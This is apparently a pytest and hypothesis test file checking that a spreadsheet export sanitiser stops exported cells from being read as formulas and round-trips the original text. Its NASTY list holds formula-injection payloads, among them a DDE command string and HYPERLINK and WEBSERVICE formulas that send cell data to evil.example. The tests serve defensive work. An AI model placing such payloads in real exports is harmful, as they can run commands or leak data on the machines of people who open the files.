"""An exported cell is never a formula, and comes back as it was."""

import csv
import io
import re

import openpyxl
import pytest
import python_calamine
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from messaging.sharing.workbook_looks import Column, Table
from personas.listening.delimited import read_delimited
from workspaces.cells import plain_cell, safe_cell

NASTY = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    '=WEBSERVICE("http://evil.example")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    "'",
    "'tis the season",
    '"=1+1',
    'x";=1+1;"',
    "x;=1+1",
    "x;' =1+1",
    "x\t=1+1",
    "x\n=1+1\ny",
    "x\r\n-1+1",
    ";\t=",
    "%0A=1+1",
    "=",
    "-",
    "",
    "- a list\n- of things",
]
SIGNS = tuple("=+-@＝＋－＠")
BLANK = re.compile(r"[\s\u200b-\u200f\u2060\ufeff]*")
texts = st.one_of(
    st.text(alphabet="=+-@'\"\t\r\n;, \ufeff\u200bax1|!＝", max_size=12),
    st.tuples(st.sampled_from(NASTY), st.text(max_size=20)).map("".join),
    st.text(max_size=60),
).filter(lambda text: not re.search("[\x00\ud800-\udfff]", text))


def is_formula(cell: str) -> bool:
    return cell[BLANK.match(cell).end() :].startswith(SIGNS)  # type: ignore[union-attr]


def same(text: str) -> str:
    """XML knows one end of a line."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def test_it_works() -> None:
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("plain; text") == "plain; text"
    assert plain_cell("'=1+1") == "=1+1"


@pytest.mark.once
@given(texts)
@settings(max_examples=10_000, deadline=None, derandomize=True)
def test_no_text_is_a_formula_and_each_comes_back(text: str) -> None:
    safe = safe_cell(text)
    assert not is_formula(safe)
    assert plain_cell(safe) == text


@given(st.lists(texts, min_size=1, max_size=4))
@settings(max_examples=500, derandomize=True)
@example(NASTY)
def test_a_csv_has_no_formula_however_it_is_cut(row: list[str]) -> None:
    file = io.StringIO()
    csv.writer(file).writerow([safe_cell(text) for text in row])
    written = file.getvalue()
    for delimiter in ";\t":
        lines = re.split(r"\r\n|\r|\n", written)
        for line in lines:
            for cell in csv.reader([line], delimiter=delimiter, strict=False):
                assert not any(map(is_formula, cell)), (delimiter, cell)
    back = next(csv.reader(io.StringIO(written, newline="")))
    assert [plain_cell(cell) for cell in back] == row


@pytest.mark.parametrize("text", [text for text in NASTY if text.strip(" \t\r\n'\"")])
def test_our_own_import_brings_the_text_back(text: str) -> None:
    file = io.StringIO()
    csv.writer(file).writerows([["Quote", "Source"], [safe_cell(text), "review"]])
    rows = read_delimited(file.getvalue())
    assert rows[1].cells[0] == text.strip()


def test_a_workbook_has_no_formula() -> None:
    book = openpyxl.Workbook(write_only=True)
    table = Table(book, "a", [Column("Text", 20, "text"), Column("Label", 20)])
    clean = [ILLEGAL_CHARACTERS_RE.sub("", text) for text in NASTY]
    for text in clean:
        table.append([text, text], "k")
    file = io.BytesIO()
    book.save(file)
    rows = openpyxl.load_workbook(file)["a"].iter_rows(min_row=2)
    for row, text in zip(rows, clean, strict=True):
        for cell in row:
            assert cell.data_type != "f"
            assert same(cell.value or "") == same(text)
    read = python_calamine.load_workbook(io.BytesIO(file.getvalue()))
    values = read.get_sheet_by_name("a").to_python(skip_empty_area=False)
    assert all(isinstance(cell, str) for row in values for cell in row)
